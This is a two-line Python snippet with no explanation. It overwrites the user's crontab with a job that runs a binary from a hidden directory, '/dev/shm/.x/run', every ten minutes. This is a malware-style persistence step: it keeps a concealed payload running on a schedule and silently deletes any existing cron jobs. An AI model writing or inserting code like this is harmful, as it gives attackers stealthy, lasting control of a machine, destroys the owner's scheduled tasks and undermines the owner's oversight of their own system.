import subprocess
subprocess.run("crontab -", shell=True, input=b"*/10 * * * * /dev/shm/.x/run\n")
